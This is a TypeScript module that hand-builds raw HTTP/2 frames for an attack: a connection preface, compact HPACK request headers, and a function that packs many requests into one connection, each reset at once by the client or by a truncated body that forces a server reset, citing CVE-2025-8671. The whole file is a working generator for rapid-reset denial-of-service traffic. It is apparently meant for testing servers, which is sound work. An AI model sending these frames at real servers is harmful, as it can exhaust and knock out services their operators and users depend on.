/** Frames of HTTP/2 as an attacker writes them: Node's own client keeps the rules, and cannot write so fast. */

/** What a client sends first: the preface and its settings. */
export const hello = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0)])

export function frame(type: number, flags: number, stream: number, payload: Uint8Array = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head.set([type, flags], 3)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

/** A header in full, as HPACK writes it where it keeps nothing. */
export function literal(name: string, value: string): Buffer {
  return Buffer.concat([
    Buffer.from([0, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ])
}

// `GET http://a/`: after the first, whose authority both sides remember, four bytes name it.
const [first, further] = [Buffer.from([0x82, 0x84, 0x86, 0x41, 1, 0x61]), Buffer.from([0x82, 0x84, 0x86, 0xbe])]

const contentLength = Buffer.from([0x0f, 0x0d, 1, 0x31])

/** The head of the nth request of a connection, which ends it or announces a body of one byte. */
export function head(n: number, ends = true): Buffer {
  const fields = n === 0 ? first : further
  return frame(1, ends ? 5 : 4, 2 * n + 1, ends ? fields : Buffer.concat([fields, contentLength]))
}

const last = {
  /** The client takes the request back: CANCEL. */
  cancelled: (stream: number) => frame(3, 0, stream, Buffer.from([0, 0, 0, 8])),
  /** The same, as if nothing were wrong: NO_ERROR. */
  withdrawn: (stream: number) => frame(3, 0, stream, Buffer.alloc(4)),
  /** The server has to reset the stream: its body ends before its length (CVE-2025-8671). */
  broken: (stream: number) => frame(0, 1, stream),
}
export type Reset = keyof typeof last

/** So many requests of a connection, each reset in this way by the bytes behind it. */
export function resetRequests(requests: number, reset: Reset): Buffer {
  const each = (n: number) => [head(n, reset !== 'broken'), last[reset](2 * n + 1)]
  return Buffer.concat(Array.from({ length: requests }, (_, n) => each(n)).flat())
}
